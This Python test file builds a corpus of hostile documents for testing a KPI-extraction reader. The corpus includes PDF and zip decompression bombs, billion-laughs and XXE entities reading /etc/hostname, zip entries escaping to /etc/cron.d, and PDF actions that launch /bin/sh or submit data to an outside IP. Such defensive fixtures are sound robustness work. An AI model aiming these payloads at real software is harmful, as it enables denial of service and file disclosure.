"""Files made to do harm, each by a small function, with what has to come of it.

An outcome is the CODE of an error, or `DOCUMENT`: then there are records, or an issue of severity error says that there
are none. Nothing else may happen, within the limits of one document.
"""

from __future__ import annotations

import base64
import struct
import zlib
from collections.abc import Callable
from typing import NamedTuple

from kpi_extract.readers.sheets.references import column_letters
from tests.hostile.making import (
    GIB,
    REPORT,
    TEXT_ON_PAGE,
    deflated,
    document_xml,
    lzw_bomb,
    one_page,
    stream,
    word,
    zipped_bomb,
)
from tests.readers import excel_making as excel
from tests.readers.building import W, cell, package, paragraph, row, run, table, word_parts

DOCUMENT = "document"
REFUSED, DAMAGED, PASSWORD, UNKNOWN = "refused", "damaged", "password", "unknown-format"
MEMORY, TIMEOUT, CRASHED = "memory", "timeout", "crashed"


class HostileFile(NamedTuple):
    """One file and what may come of it."""

    make: Callable[[], bytes]
    outcomes: frozenset[str]
    suffix: str
    has_records: bool = False
    """Whether a document that comes of it has records."""
    is_cheap: bool = True
    """Whether it is over in a second or two without a process of its own."""


CORPUS: dict[str, HostileFile] = {}


def _file(
    suffix: str, *outcomes: str, has_records: bool = False, is_cheap: bool = True
) -> Callable[[Callable[[], bytes]], Callable[[], bytes]]:
    """Puts a function into the table under its name."""

    def added(make: Callable[[], bytes]) -> Callable[[], bytes]:
        name = make.__name__.replace("_", "-") + suffix
        CORPUS[name] = HostileFile(make, frozenset(outcomes), suffix, has_records, is_cheap)
        return make

    return added


FLATE = "/Filter/FlateDecode"

# --- PDF: what unpacks without end -------------------------------------------------------------------------------------


@_file(".pdf", REFUSED)
def flate_bomb() -> bytes:
    return one_page(deflated(GIB), FLATE)


@_file(".pdf", REFUSED)
def flate_bomb_spelling_its_own_end() -> bytes:
    unpacked_block = b"\x00" + struct.pack("<HH", 9, 0xFFFF - 9) + b"endstream"
    return one_page(b"\x78\xda" + unpacked_block + deflated(GIB)[2:], FLATE)


@_file(".pdf", REFUSED)
def flate_in_flate_bomb() -> bytes:
    return one_page(zlib.compress(deflated(GIB), 9), "/Filter[/FlateDecode/FlateDecode]")


@_file(".pdf", REFUSED)
def three_hundred_layers() -> bytes:
    return one_page(b"x", f"/Filter[{'/FlateDecode' * 300}]")


@_file(".pdf", REFUSED)
def hex_over_flate_bomb() -> bytes:
    return one_page(deflated(GIB).hex().encode() + b">", "/Filter[/ASCIIHexDecode/FlateDecode]")


@_file(".pdf", REFUSED)
def ascii85_over_flate_bomb() -> bytes:
    return one_page(base64.a85encode(deflated(GIB)) + b"~>", "/Filter[/A85/Fl]")


@_file(".pdf", REFUSED)
def ascii85_of_zeros() -> bytes:
    return one_page(b"z" * (20 * 2**20) + b"~>", "/Filter/ASCII85Decode")


@_file(".pdf", REFUSED)
def lzw_of_one_letter() -> bytes:
    return one_page(lzw_bomb(12), "/Filter/LZWDecode")


@_file(".pdf", REFUSED)
def run_length_bomb() -> bytes:
    return one_page(b"\x81 " * 600_000 + b"\x80", "/Filter/RunLengthDecode")


@_file(".pdf", REFUSED)
def run_length_in_flate_bomb() -> bytes:
    return one_page(zlib.compress(b"\x81 " * 600_000 + b"\x80"), "/Filter[/FlateDecode/RunLengthDecode]")


@_file(".pdf", REFUSED)
def bomb_whose_packing_is_named_elsewhere() -> bytes:
    return one_page(deflated(GIB), "/Filter 6 0 R", others={6: "/FlateDecode"})


@_file(".pdf", REFUSED)
def bomb_whose_packing_is_spelled_oddly() -> bytes:
    return one_page(deflated(GIB), "/Filter/#46lateDecode")


@_file(".pdf", REFUSED)
def bomb_behind_a_long_dictionary() -> bytes:
    return one_page(deflated(GIB), f"{FLATE}/X({'x' * 20_000})")


@_file(".pdf", REFUSED)
def object_stream_bomb() -> bytes:
    packed = stream(deflated(GIB), f"/Type/ObjStm/N 1/First 4{FLATE}")
    return one_page(TEXT_ON_PAGE, others={6: packed})


@_file(".pdf", REFUSED)
def cross_reference_stream_bomb() -> bytes:
    packed = stream(deflated(GIB), f"/Type/XRef/Size 9/W[1 2 1]/Root 1 0 R{FLATE}")
    return one_page(TEXT_ON_PAGE, others={6: packed})


@_file(".pdf", REFUSED)
def font_bomb() -> bytes:
    font = "<</Type/Font/Subtype/TrueType/BaseFont/X/FontDescriptor<</Type/FontDescriptor/FontFile2 6 0 R>>>>"
    return one_page(TEXT_ON_PAGE, others={5: font, 6: stream(deflated(GIB), FLATE)})


@_file(".pdf", REFUSED)
def many_streams_below_the_limit() -> bytes:
    part = stream(deflated(60 * 2**20), FLATE)
    contents = " ".join(f"{number} 0 R" for number in range(10, 50))
    page = f"<</Type/Page/Parent 2 0 R/MediaBox[0 0 595 842]/Contents[{contents}]>>"
    return one_page(b"", others={3: page, **dict.fromkeys(range(10, 50), part)})


@_file(".pdf", DAMAGED, MEMORY, CRASHED, is_cheap=False)
def bomb_that_says_it_is_a_picture() -> bytes:
    return one_page(deflated(GIB), f"/Subtype/Image/Width 9/Height 9{FLATE}")


@_file(".pdf", DOCUMENT)
def picture_of_a_gibibyte() -> bytes:
    picture = stream(deflated(GIB), f"/Type/XObject/Subtype/Image/Width 32768/Height 32768/BitsPerComponent 8/ColorSpace/DeviceGray{FLATE}")  # fmt: skip
    return one_page(TEXT_ON_PAGE + b"q 500 0 0 500 0 0 cm /I Do Q", resources="/XObject<</I 6 0 R>>", others={6: picture})  # fmt: skip


@_file(".pdf", REFUSED)
def predictor_of_two_billion_columns() -> bytes:
    return one_page(zlib.compress(TEXT_ON_PAGE), f"{FLATE}/DecodeParms<</Predictor 12/Columns 2147483647>>")


@_file(".pdf", DOCUMENT, DAMAGED)
def predictor_of_many_colors() -> bytes:
    return one_page(
        zlib.compress(TEXT_ON_PAGE),
        f"{FLATE}/DecodeParms<</Predictor 2/Columns 999999/Colors 999999/BitsPerComponent 64>>",
    )


# --- PDF: what has no end ----------------------------------------------------------------------------------------------


@_file(".pdf", REFUSED)
def three_hundred_thousand_pages() -> bytes:
    kids = "3 0 R " * 300_000
    return one_page(TEXT_ON_PAGE, others={2: f"<</Type/Pages/Kids[{kids}]/Count 300000>>"})


@_file(".pdf", REFUSED)
def pages_multiplied_by_their_tree() -> bytes:
    nodes = {number: f"<</Type/Pages/Kids[{f'{number + 1} 0 R ' * 10}]/Count {10 ** (16 - number)}>>" for number in range(10, 16)}  # fmt: skip
    nodes[15] = f"<</Type/Pages/Kids[{'3 0 R ' * 10}]/Count 10>>"
    return one_page(TEXT_ON_PAGE, others={2: "<</Type/Pages/Kids[10 0 R]/Count 1000000>>", **nodes})


@_file(".pdf", DOCUMENT, DAMAGED)
def page_tree_that_holds_itself() -> bytes:
    return one_page(TEXT_ON_PAGE, others={2: "<</Type/Pages/Kids[2 0 R 3 0 R 2 0 R]/Count 3>>"})


@_file(".pdf", DOCUMENT, DAMAGED, REFUSED)
def page_tree_two_thousand_deep() -> bytes:
    nodes = {number: f"<</Type/Pages/Kids[{number + 1} 0 R]/Count 1>>" for number in range(10, 2010)}
    nodes[2009] = "<</Type/Pages/Kids[3 0 R]/Count 1>>"
    return one_page(TEXT_ON_PAGE, others={2: "<</Type/Pages/Kids[10 0 R]/Count 1>>", **nodes})


@_file(".pdf", DOCUMENT, DAMAGED, REFUSED)
def a_billion_pages_by_its_own_account() -> bytes:
    return one_page(TEXT_ON_PAGE, others={2: "<</Type/Pages/Kids[3 0 R]/Count 1000000000>>"})


@_file(".pdf", DOCUMENT, DAMAGED)
def negative_number_of_pages() -> bytes:
    return one_page(TEXT_ON_PAGE, others={2: "<</Type/Pages/Kids[3 0 R]/Count -5>>"})


FORM = "/Type/XObject/Subtype/Form/BBox[0 0 595 842]"


@_file(".pdf", DOCUMENT, DAMAGED)
def form_that_draws_itself() -> bytes:
    form = stream(b"/X Do /X Do", f"{FORM}/Resources<</XObject<</X 6 0 R>>>>")
    return one_page(TEXT_ON_PAGE + b"/X Do", resources="/XObject<</X 6 0 R>>", others={6: form})


@_file(".pdf", DOCUMENT, DAMAGED)
def forms_that_draw_a_million_million_forms() -> bytes:
    forms = {
        number: stream(b"/X Do " * 10, f"{FORM}/Resources<</XObject<</X {number + 1} 0 R>>>>")
        for number in range(6, 18)
    }
    return one_page(TEXT_ON_PAGE + b"/X Do", resources="/XObject<</X 6 0 R>>", others={**forms, 18: stream(TEXT_ON_PAGE, FORM)})  # fmt: skip


@_file(".pdf", DOCUMENT, DAMAGED)
def glyph_that_draws_itself() -> bytes:
    font = (
        "<</Type/Font/Subtype/Type3/FontBBox[0 0 9 9]/FontMatrix[1 0 0 1 0 0]/CharProcs<</a 6 0 R>>/FirstChar 97/LastChar 97"
        "/Widths[9]/Encoding<</Differences[97/a]>>/Resources<</Font<</F 5 0 R>>>>>>"
    )
    glyph = stream(b"9 0 0 0 9 9 d1 BT /F 9 Tf (aaaa) Tj ET")
    return one_page(b"BT /F 9 Tf 72 720 Td (aaaa) Tj ET", others={5: font, 6: glyph})


@_file(".pdf", DOCUMENT, DAMAGED)
def note_whose_appearance_is_itself() -> bytes:
    note = stream(b"/X Do", f"{FORM}/Resources<</XObject<</X 6 0 R>>>>/AP<</N 6 0 R>>/Rect[0 0 99 99]")
    page = "/MediaBox[0 0 595 842]/Annots[<</Type/Annot/Subtype/FreeText/Rect[0 0 99 99]/AP<</N 6 0 R>>>>]"
    return one_page(TEXT_ON_PAGE, page=page, others={6: note})


@_file(".pdf", DOCUMENT, DAMAGED)
def length_that_is_itself() -> bytes:
    return one_page(TEXT_ON_PAGE, others={4: b"<</Length 4 0 R>>stream\n" + TEXT_ON_PAGE + b"\nendstream"})


@_file(".pdf", DOCUMENT, DAMAGED)
def references_in_a_circle() -> bytes:
    return one_page(TEXT_ON_PAGE, page="/MediaBox 6 0 R/Rotate 7 0 R", others={6: "7 0 R", 7: "6 0 R"})


@_file(".pdf", DOCUMENT, DAMAGED)
def parents_in_a_circle() -> bytes:
    page = "<</Type/Page/Parent 3 0 R/Contents 4 0 R>>"
    return one_page(TEXT_ON_PAGE, others={3: page})


@_file(".pdf", DOCUMENT, DAMAGED)
def cross_references_in_a_circle() -> bytes:
    data = one_page(TEXT_ON_PAGE)
    start = data.rfind(b"xref\n", 0, data.rfind(b"startxref"))
    return data.replace(b"trailer\n<<", b"trailer\n<</Prev %d/XRefStm %d " % (start, start))


@_file(".pdf", DOCUMENT, DAMAGED)
def a_billion_cross_references() -> bytes:
    return one_page(TEXT_ON_PAGE).replace(b"xref\n0 1\n", b"xref\n0 999999999\n", 1)


@_file(".pdf", DOCUMENT, DAMAGED)
def a_billion_objects_by_its_own_account() -> bytes:
    return one_page(TEXT_ON_PAGE).replace(b"/Size 6", b"/Size 2147483647")


def _with_cross_reference_stream(dictionary: str, entries: bytes) -> bytes:
    objects = one_page(TEXT_ON_PAGE)
    objects = objects[: objects.rfind(b"xref\n0 1\n")]
    listed = stream(zlib.compress(entries), f"/Type/XRef/Root 1 0 R{FLATE}{dictionary}")
    return objects + b"9 0 obj\n" + listed + b"\nendobj\nstartxref\n%d\n%%%%EOF\n" % len(objects)


@_file(".pdf", DOCUMENT, DAMAGED)
def cross_reference_stream_of_two_billion_entries() -> bytes:
    return _with_cross_reference_stream("/Size 2147483647/W[1 4 1]/Index[0 2147483647]", bytes(600))


@_file(".pdf", DOCUMENT, DAMAGED)
def cross_reference_stream_of_endless_width() -> bytes:
    return _with_cross_reference_stream("/Size 10/W[1 2147483647 1]", bytes(600))


@_file(".pdf", DOCUMENT, DAMAGED)
def cross_reference_stream_of_no_width() -> bytes:
    return _with_cross_reference_stream("/Size 2147483647/W[0 0 0]", bytes(600))


@_file(".pdf", DOCUMENT, DAMAGED)
def object_streams_that_extend_each_other() -> bytes:
    first = stream(b"7 0 <<>>", "/Type/ObjStm/N 999999999/First 4/Extends 6 0 R")
    return one_page(TEXT_ON_PAGE, others={6: first})


# --- PDF: what is large or deep ----------------------------------------------------------------------------------------


def _rectangles(count: int) -> bytes:
    return b"".join(b"%d %d 3 3 re S\n" % (n % 590, n // 590 % 840) for n in range(count))


@_file(".pdf", DOCUMENT, DAMAGED)
def twenty_thousand_rectangles() -> bytes:
    return one_page(zlib.compress(_rectangles(20_000) + TEXT_ON_PAGE), FLATE)


@_file(".pdf", DOCUMENT, DAMAGED, MEMORY, is_cheap=False)
def two_million_rectangles() -> bytes:
    return one_page(zlib.compress(_rectangles(2_000_000)), FLATE)


@_file(".pdf", DOCUMENT, DAMAGED, is_cheap=False)
def grid_of_a_million_cells() -> bytes:
    lines = [f"{n * 0.5} 0 m {n * 0.5} 500 l S\n0 {n * 0.5} m 500 {n * 0.5} l S\n" for n in range(1000)]
    return one_page(zlib.compress("".join(lines).encode() + TEXT_ON_PAGE), FLATE)


@_file(".pdf", DOCUMENT, DAMAGED, is_cheap=False)
def a_million_letters_on_one_spot() -> bytes:
    return one_page(zlib.compress(b"BT /F 1 Tf 72 720 Td (" + b"15 " * 333_333 + b") Tj ET"), FLATE)


@_file(".pdf", DOCUMENT, DAMAGED)
def endless_page() -> bytes:
    return one_page(TEXT_ON_PAGE, page="/MediaBox [-1e30 -1e30 1e30 1e30]/UserUnit 1e30")


@_file(".pdf", DOCUMENT, DAMAGED)
def page_of_no_numbers() -> bytes:
    return one_page(TEXT_ON_PAGE, page=f"/MediaBox [0 0 {'9' * 5000} (x)]/Rotate 45")


@_file(".pdf", DOCUMENT, DAMAGED)
def operands_of_a_million_digits() -> bytes:
    return one_page(b"9" * 1_000_000 + b" 0 0 1 0 0 cm " + TEXT_ON_PAGE)


@_file(".pdf", DOCUMENT, DAMAGED)
def arrays_in_arrays() -> bytes:
    return one_page(b"[" * 100_000 + b"]" * 100_000 + b" TJ " + TEXT_ON_PAGE)


@_file(".pdf", DOCUMENT, DAMAGED)
def dictionaries_in_dictionaries() -> bytes:
    return one_page(TEXT_ON_PAGE, others={6: "<</A" * 100_000 + ">>" * 100_000}, catalog="/X 6 0 R")


@_file(".pdf", DOCUMENT, DAMAGED)
def a_million_saved_states() -> bytes:
    return one_page(zlib.compress(b"q " * 1_000_000 + TEXT_ON_PAGE), FLATE)


@_file(".pdf", DOCUMENT, DAMAGED, MEMORY, TIMEOUT, is_cheap=False)
def code_map_of_four_billion_letters() -> bytes:
    cmap = (
        b"begincmap 1 begincodespacerange <00000000> <FFFFFFFF> endcodespacerange "
        b"1 beginbfrange <00000000> <FFFFFFFF> <0041> endbfrange endcmap"
    )
    font = (
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/ToUnicode 6 0 R/DescendantFonts["
        "<</Type/Font/Subtype/CIDFontType2/BaseFont/X/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>"
    )
    return one_page(b"BT /F 12 Tf 72 720 Td <004100420043004400450046> Tj ET", others={5: font, 6: stream(cmap)})


@_file(".pdf", DOCUMENT, DAMAGED, MEMORY, TIMEOUT, is_cheap=False)
def widths_of_two_billion_letters() -> bytes:
    font = (
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/Identity-H/DescendantFonts[<</Type/Font/Subtype/CIDFontType2"
        "/BaseFont/X/W[0 2147483646 500]/CIDSystemInfo<</Registry(Adobe)/Ordering(Identity)/Supplement 0>>>>]>>"
    )
    return one_page(b"BT /F 12 Tf 72 720 Td <004100420043004400450046> Tj ET", others={5: font})


# --- PDF: what reaches outside -----------------------------------------------------------------------------------------


@_file(".pdf", DOCUMENT)
def code_map_that_names_a_path() -> bytes:
    font = (
        "<</Type/Font/Subtype/Type0/BaseFont/X/Encoding/#2e#2e#2f#2e#2e#2ftmp#2fevil/DescendantFonts[<</Type/Font"
        "/Subtype/CIDFontType0/BaseFont/X/CIDSystemInfo<</Registry(..)/Ordering(../../tmp/evil)/Supplement 0>>>>]>>"
    )
    return one_page(TEXT_ON_PAGE + b"BT /G 12 Tf 72 700 Td <0041> Tj ET", resources="/Font<</F 6 0 R/G 5 0 R>>", others={
        5: font, 6: "<</Type/Font/Subtype/Type1/BaseFont/Helvetica>>",
    })  # fmt: skip


@_file(".pdf", DOCUMENT)
def actions_that_call_out() -> bytes:
    catalog = "/OpenAction<</S/URI/URI(http://203.0.113.1/open)>>/AA<</WC<</S/JavaScript/JS(app.launchURL\\('http://203.0.113.1/'\\))>>>>"  # fmt: skip
    actions = (
        "<</S/GoToR/F<</FS/URL/F(http://203.0.113.1/a.pdf)>>/D[0/Fit]>>",
        "<</S/Launch/F(/bin/sh)>>",
        "<</S/SubmitForm/F<</FS/URL/F(http://203.0.113.1/post)>>>>",
        "<</S/ImportData/F(/etc/hostname)>>",
    )
    links = "".join(f"<</Type/Annot/Subtype/Link/Rect[0 0 99 99]/A{action}>>" for action in actions)
    return one_page(TEXT_ON_PAGE, page=f"/MediaBox[0 0 595 842]/Annots[{links}]/AA<</O{actions[0]}>>", catalog=catalog)


@_file(".pdf", DOCUMENT, DAMAGED)
def content_in_a_file_elsewhere() -> bytes:
    elsewhere = b"<</F<</FS/URL/F(http://203.0.113.1/x)>>/FFilter/FlateDecode/Length 0>>stream\n\nendstream"
    return one_page(b"", others={4: elsewhere})


@_file(".pdf", DOCUMENT, DAMAGED)
def page_that_stands_in_another_file() -> bytes:
    form = stream(b"", f"{FORM}/Ref<</F(/etc/hostname)/Page 0>>")
    return one_page(TEXT_ON_PAGE + b"/X Do", resources="/XObject<</X 6 0 R>>", others={6: form})


@_file(".pdf", DAMAGED)
def cut_in_the_middle() -> bytes:
    data = one_page(TEXT_ON_PAGE * 1000)
    return data[: len(data) // 2]


@_file(".pdf", DAMAGED)
def nothing_but_a_header() -> bytes:
    return b"%PDF-1.7\n"


# --- Word --------------------------------------------------------------------------------------------------------------

RELATIONSHIPS = "http://schemas.openxmlformats.org/package/2006/relationships"
OFFICE = "http://schemas.openxmlformats.org/officeDocument/2006/relationships"
BODY = table(*(row(*(cell(run(text)) for text in line.split("\t"))) for line in REPORT.splitlines() if "\t" in line))


@_file(".docx", REFUSED)
def gibibyte_of_paragraphs() -> bytes:
    return zipped_bomb(GIB, b"<w:p/>  ", word_parts(BODY), "word/more.xml")


@_file(".docx", REFUSED)
def document_of_two_hundred_mebibytes() -> bytes:
    parts = {name: content for name, content in word_parts(BODY).items() if name != "word/document.xml"}
    return zipped_bomb(200 * 2**20, b"<w:p/>  ", parts, "word/document.xml")


@_file(".docx", REFUSED)
def six_thousand_entries() -> bytes:
    return word(BODY, **{f"a/{number}": b"" for number in range(6_000)})


@_file(".docx", REFUSED)
def two_hundred_thousand_entries() -> bytes:
    entry = b"PK\x01\x02" + struct.pack("<6H3I5H2I", 20, 20, 0, 0, 0, 33, 0, 0, 0, 1, 0, 0, 0, 0, 0, 0) + b"a"
    end = b"PK\x05\x06" + struct.pack("<4H2IH", 0, 0, 0xFFFF, 0xFFFF, len(entry) * 200_000, 0, 0)
    return b"PK\x03\x04" + entry * 200_000 + end


ENTITIES = "".join(f'<!ENTITY a{n} "{f"&a{n - 1};" * 10}">' for n in range(1, 10))


@_file(".docx", REFUSED)
def billion_laughs() -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY a0 "15">{ENTITIES}]>'
    return word(document=document_xml(paragraph(run("&a9;")), doctype))


@_file(".docx", REFUSED)
def one_entity_many_times() -> bytes:
    doctype = f'<!DOCTYPE w:document [<!ENTITY a "{"15" * 50_000}">]>'
    return word(document=document_xml(paragraph(run("&a;" * 50_000)), doctype))


@_file(".docx", REFUSED)
def entity_from_a_file() -> bytes:
    doctype = '<!DOCTYPE w:document [<!ENTITY e SYSTEM "file:///etc/hostname">]>'
    return word(document=document_xml(paragraph(run("&e;")), doctype))


@_file(".docx", REFUSED)
def entity_from_the_network() -> bytes:
    doctype = '<!DOCTYPE w:document PUBLIC "-//X//DTD//EN" "http://203.0.113.1/x.dtd">'
    return word(document=document_xml(BODY, doctype))


@_file(".docx", REFUSED)
def doctype_in_utf_16() -> bytes:
    text = document_xml(BODY, "<!DOCTYPE w:document>", "UTF-16")
    return word(document=text.encode("utf-16"))


@_file(".docx", REFUSED)
def doctype_in_utf_7() -> bytes:
    text = document_xml(BODY, "+ADwAIQ-DOCTYPE w:document+AD4-", "UTF-7")
    return word(document=text.encode("ascii", "xmlcharrefreplace"))


@_file(".docx", REFUSED)
def doctype_in_utf_32() -> bytes:
    return word(document=document_xml(BODY, "<!DOCTYPE w:document>", "UTF-32").encode("utf-32-le"))


@_file(".docx", REFUSED)
def doctype_in_ebcdic() -> bytes:
    return word(document=document_xml(paragraph(run("15")), "<!DOCTYPE w:document>", "IBM037").encode("cp037"))


@_file(".docx", REFUSED)
def doctype_in_the_styles() -> bytes:
    return package({**word_parts(BODY, styles=""), "word/styles.xml": f'<!DOCTYPE x><w:styles xmlns:w="{W}"/>'})


@_file(".docx", REFUSED)
def entry_that_climbs_out() -> bytes:
    return word(BODY, **{"word/../../../etc/cron.d/x": b"x"})


@_file(".docx", REFUSED)
def entry_on_a_drive() -> bytes:
    return word(BODY, **{"C:\\Windows\\x.dll": b"x"})


@_file(".docx", DOCUMENT, has_records=True)
def workbook_inside_that_is_a_bomb() -> bytes:
    inner = zipped_bomb(500 * 2**20, b"<c/>    ", {"[Content_Types].xml": "<Types/>"}, "xl/worksheets/sheet1.xml")
    return word(BODY, **{"word/embeddings/Microsoft_Excel_Sheet1.xlsx": inner})


@_file(".docx", DOCUMENT, has_records=True)
def picture_part_of_another_kind() -> bytes:
    return word(BODY, **{"word/media/image1.png": b"MZ" + bytes(1000), "word/media/image2.svg": b"<svg/>"})


@_file(".docx", DOCUMENT, has_records=True)
def links_that_call_out() -> bytes:
    kinds = (
        "image",
        "attachedTemplate",
        "hyperlink",
        "oleObject",
        "frame",
        "subDocument",
        "styles",
        "footnotes",
        "header",
    )
    relations = "".join(
        f'<Relationship Id="r{kind}" Type="{OFFICE}/{kind}" Target="http://203.0.113.1/{kind}" TargetMode="External"/>'
        for kind in kinds
    )
    return word(BODY, links=f'<Relationships xmlns="{RELATIONSHIPS}">{relations}</Relationships>')


@_file(".docx", DOCUMENT, has_records=True)
def links_to_files_of_the_machine() -> bytes:
    relations = "".join(
        f'<Relationship Id="r{number}" Type="{OFFICE}/image" Target="{target}"/>'
        for number, target in enumerate(
            ("file:///etc/hostname", "../../../../etc/hostname", "\\\\203.0.113.1\\share\\x")
        )
    )
    return word(BODY, links=f'<Relationships xmlns="{RELATIONSHIPS}">{relations}</Relationships>')


@_file(".docx", DAMAGED)
def five_thousand_nested_tables() -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 5_000 + run("15") + "</w:tc></w:tr></w:tbl>" * 5_000)


@_file(".docx", DOCUMENT)
def eighty_nested_tables() -> bytes:
    return word("<w:tbl><w:tr><w:tc>" * 80 + paragraph(run("15")) + "</w:tc></w:tr></w:tbl>" * 80)


@_file(".docx", DOCUMENT)
def cell_over_two_billion_columns() -> bytes:
    return word(table(row(cell(run("15"), '<w:gridSpan w:val="2147483648"/>'), cell(run("人")))))


@_file(".docx", DOCUMENT)
def cells_over_a_million_columns_each() -> bytes:
    return word(table(row(*(cell(run("15"), '<w:gridSpan w:val="999999"/>') for _ in range(500)))))


@_file(".docx", DOCUMENT, is_cheap=False)
def cell_over_fifty_thousand_rows() -> bytes:
    merged = '<w:vMerge w:val="continue"/>'
    return word(table(*(row(cell(run("指標"), merged), cell(run(str(number)))) for number in range(50_000))))


@_file(".docx", DOCUMENT)
def every_cell_of_another_width() -> bytes:
    return word(table(*(row(cell(run("1"), f'<w:gridSpan w:val="{n}"/>'), cell(run("2"))) for n in range(1, 1500))))


@_file(".docx", DOCUMENT)
def styles_based_on_each_other() -> bytes:
    styles = "".join(f'<w:style w:styleId="S{n}"><w:basedOn w:val="S{(n + 1) % 3000}"/></w:style>' for n in range(3000))
    return package(word_parts(paragraph(run("15"), '<w:pStyle w:val="S0"/>'), styles=styles))


@_file(".docx", DOCUMENT)
def element_of_a_hundred_thousand_attributes() -> bytes:
    attributes = " ".join(f'a{number}="1"' for number in range(100_000))
    return word(document=document_xml(f"<w:p {attributes}/>" + BODY))


# --- text --------------------------------------------------------------------------------------------------------------


@_file(".tsv", REFUSED, is_cheap=False)
def twenty_million_fields_in_a_line() -> bytes:
    return b"1\t" * 20_000_000 + b"1\n"


@_file(".tsv", DOCUMENT, MEMORY, is_cheap=False)
def cell_of_ninety_million_letters() -> bytes:
    return "指標\t実績値\n".encode() + b"x" * 90_000_000 + b"\t15\n"


@_file(".tsv", REFUSED, is_cheap=False)
def million_columns() -> bytes:
    return ("\t".join(f"R{n}" for n in range(1_000_000)) + "\n").encode() * 3


@_file(".tsv", DOCUMENT, MEMORY, is_cheap=False)
def ten_thousand_years() -> bytes:
    head = "指標\t単位\t" + "\t".join("R5実績値" for _ in range(10_000)) + "\n"
    return (head + ("雇用創出数\t人\t" + "\t".join("15" for _ in range(10_000)) + "\n") * 20).encode()


@_file(".tsv", DOCUMENT, has_records=True)
def value_of_a_million_digits() -> bytes:
    return REPORT.replace("\t12\n", "\t" + "9" * 1_000_000 + "\n").encode()


@_file(".tsv", DOCUMENT, has_records=True)
def value_of_a_thousand_powers() -> bytes:
    return REPORT.replace("\t12\n", "\t1e999999999\n").replace("\t18\n", "\t1" + "億" * 5000 + "\n").encode()


@_file(".tsv", DOCUMENT)
def year_of_a_million_digits() -> bytes:
    return REPORT.replace("実績値", "令和" + "9" * 1_000_000 + "年度実績値").encode()


@_file(".csv", REFUSED)
def quotation_marks_without_end() -> bytes:
    return b'"a,""b",' * 100_000 + b"\n" + b'"x,y\n' * 20_000


@_file(".tsv", DOCUMENT)
def brackets_without_end() -> bytes:
    deep = "(" * 30_000 + ")" * 30_000
    return (
        REPORT.replace("橋の修繕", deep).replace("\t箇所", "\t" + deep).replace("\t12\n", "\t" + deep + "\n").encode()
    )


@_file(".txt", DOCUMENT)
def heading_of_a_megabyte() -> bytes:
    return ("【" + "対象事業" * 80_000 + "】\n\n" + REPORT).encode()


@_file(".tsv", UNKNOWN, DAMAGED)
def zeros() -> bytes:
    return bytes(1_000_000)


# --- workbooks --------------------------------------------------------------------------------------------------------

_KPIS = excel.rows("指標 | 単位 | 目標値 | 実績値", "修繕した橋の数 | 箇所 | 15 | 12", "雇用創出数 | 人 | 20 | 18")


@_file(".xlsx", DOCUMENT, has_records=True)
def cell_in_the_farthest_corner() -> bytes:
    return excel.one_sheet(_KPIS + f'<row r="1048576">{excel.text_cell("XFD1048576", "端")}</row>')


@_file(".xlsx", DOCUMENT, has_records=True)
def rows_hidden_by_turns_over_the_whole_sheet() -> bytes:
    return excel.one_sheet(_KPIS + "".join(f'<row r="{n}" hidden="1"/>' for n in range(5, 400_000, 2)))


@_file(".xlsx", DOCUMENT)
def merges_over_one_another() -> bytes:
    merges = "".join(f'<mergeCell ref="A{n}:XFD{1_048_577 - n}"/>' for n in range(1, 50_000))
    return excel.one_sheet(_KPIS, after=f"<mergeCells>{merges}</mergeCells>")


@_file(".xlsx", DOCUMENT)
def cells_along_a_diagonal() -> bytes:
    names = (f"{column_letters(n)}{n}" for n in range(1, 10_000))
    return excel.one_sheet(
        "".join(f'<row r="{n}">{excel.text_cell(name, "x")}</row>' for n, name in enumerate(names, start=1))
    )


@_file(".xlsx", DOCUMENT, is_cheap=False)
def million_cells() -> bytes:
    numbers = (str(n * 7919 % 1_000_003) for n in range(1_000_000))
    cells = "".join(
        f'<c s="1"><v>{number}</v></c>' + "</row><row>" * (n % 100 == 99) for n, number in enumerate(numbers)
    )
    return excel.one_sheet(f"<row>{cells}</row>")


@_file(".xlsx", DOCUMENT)
def one_long_text_shared_by_all_cells() -> bytes:
    text = "".join(chr(0x3400 + n * 7919 % 20_000) for n in range(300_000))
    cells = "".join(f'<row r="{n}"><c r="A{n}" t="s"><v>0</v></c></row>' for n in range(1, 20_000))
    return excel.workbook({"a": excel.sheet(cells)}, strings=f'<sst xmlns="{excel.MAIN}"><si><t>{text}</t></si></sst>')


@_file(".xlsx", REFUSED)
def shared_strings_packed_a_thousand_times() -> bytes:
    return excel.workbook(
        {"a": excel.sheet(_KPIS)}, parts={"xl/sharedStrings.xml": f"<sst><si><t>{'x' * 20_000_000}</t></si></sst>"}
    )


@_file(".xlsx", REFUSED)
def entities_in_a_sheet() -> bytes:
    bomb = '<!DOCTYPE a [<!ENTITY b "bbbb"><!ENTITY c "&b;&b;&b;&b;">]><worksheet>&c;</worksheet>'
    return excel.workbook({"a": excel.sheet(_KPIS)}, parts={"xl/worksheets/sheet1.xml": bomb})


@_file(".xlsx", DOCUMENT, has_records=True)
def number_formats_without_end() -> bytes:
    codes = ["0" * 900, "#," * 450, "0%" * 450, "[" * 900, ";" * 900, '"' * 900, "_" * 900, "[h]" * 300, "g" * 900]
    cells = "".join(f'<c r="A{n + 9}" s="{n + 2}"><v>1E300</v></c>' for n in range(len(codes)))
    return excel.one_sheet(_KPIS + f"<row r='9'>{cells}</row>", style=excel.styles(*codes))


@_file(".xlsx", DOCUMENT, has_records=True)
def links_to_other_workbooks() -> bytes:
    links = excel.relationships(("worksheet", "worksheets/sheet1.xml"), ("styles", "styles.xml")).replace(
        "</Relationships>",
        f'<Relationship Id="rId7" Type="{excel.OFFICE}/externalLink" TargetMode="External" Target="file:///etc/hosts"/>'
        f'<Relationship Id="rId8" Type="{excel.OFFICE}/sharedStrings" Target="../../../etc/hosts"/></Relationships>',
    )
    return excel.workbook({"a": excel.sheet(_KPIS)}, parts={"xl/_rels/workbook.xml.rels": links})
